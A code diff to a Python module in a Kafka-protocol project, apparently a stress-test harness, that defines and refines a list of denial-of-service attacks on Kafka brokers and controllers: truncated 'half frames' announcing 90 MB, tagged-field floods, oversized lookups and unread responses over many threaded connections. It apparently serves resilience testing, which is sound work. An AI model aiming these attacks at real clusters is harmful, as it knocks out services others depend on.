@@ -23,7 +23,7 @@ from penstock.protocol.messages.join_group import JoinGroupRequest, JoinGroupReq
 from penstock.protocol.messages.list_offsets import ListOffsetsPartition, ListOffsetsRequest, ListOffsetsTopic
 from penstock.protocol.messages.metadata import MetadataRequest
 from penstock.protocol.messages.produce import PartitionProduceData, ProduceRequest, TopicProduceData
-from penstock.protocol.requests.api import ApiKey
+from penstock.protocol.requests.api import ApiKey, api_of
 from penstock.protocol.requests.framing import api_of_request, encode_request
 from penstock.protocol.schema import Message
 
@@ -110,17 +110,18 @@ def carry_out(target: Target, name: str, is_over: Event) -> None:
     """
     os.nice(19)
     attack = next(attack for attack in ATTACKS if attack.name == name)
-    frames, done = attack.frames(target), [0] * attack.threads
+    frames, done, ended = attack.frames(target), [0] * attack.threads, threading.Event()
 
     def run(number: int) -> None:
         crowd = Crowd(target.controller if attack.is_for_controller else target.broker, attack, frames)
-        while not is_over.is_set():
+        while not ended.is_set():  # who ends while it asks `is_over` keeps its lock for good
             crowd.step()
             done[number] += 1
 
     for number in range(attack.threads):
         threading.Thread(target=run, args=(number,), daemon=True).start()
     is_over.wait()
+    ended.set()
     print(f"{name}: {sum(done)}", flush=True)
 
 
@@ -136,9 +137,10 @@ def asking(key: ApiKey, version: int, wide: int, deep: int) -> Frames:
     return lambda to: [encode_request(Filling(to.there, shape, key, version).request(), version, 7, "raw")]
 
 
-def half_frames(_: Target) -> list[bytes]:
-    """90 MB are announced, one is sent."""
-    return [(90 << 20).to_bytes(4, "big") + ApiKey.PRODUCE.to_bytes(2, "big") + bytes(1 << 20)]
+def half_frames(key: ApiKey) -> Frames:
+    """90 MB are announced, one is sent: nothing that is there says that the request will be refused."""
+    header = encode_request(api_of(key).request_class(), api_of(key).versions[-1], 7, "raw")[4:18]
+    return lambda _: [(90 << 20).to_bytes(4, "big") + header + bytes(1 << 20)]
 
 
 def tagged_fields(key: ApiKey, version: int) -> Frames:
@@ -208,12 +210,18 @@ def joins(_: Target) -> list[bytes]:
 
 
 ATTACKS: Final = [
-    Attack("half frames", half_frames, threads=5, connections=100, is_answered=False),
+    Attack("half frames", half_frames(ApiKey.PRODUCE), threads=5, connections=100, is_answered=False),
     Attack("unread answers", lambda _: of(MetadataRequest(topics=None)), connections=150, is_answered=False),
     Attack("look-ups in a bomb", lookups, threads=4, connections=10),
     Attack("tagged fields", tagged_fields(ApiKey.METADATA, 12)),
     Attack("tagged fields to the controller", tagged_fields(ApiKey.BROKER_HEARTBEAT, 1), is_for_controller=True),
-    Attack("half frames to the controller", half_frames, connections=20, is_answered=False, is_for_controller=True),
+    Attack(
+        "half frames to the controller",
+        half_frames(ApiKey.BROKER_HEARTBEAT),
+        connections=20,
+        is_answered=False,
+        is_for_controller=True,
+    ),
     Attack("OffsetCommit", asking(ApiKey.OFFSET_COMMIT, 9, 1, 100_000)),
     Attack("DescribeConfigs", asking(ApiKey.DESCRIBE_CONFIGS, 4, 2 * TOPICS, 1)),
     Attack("DescribeLogDirs", asking(ApiKey.DESCRIBE_LOG_DIRS, 4, 1, PARTITIONS)),
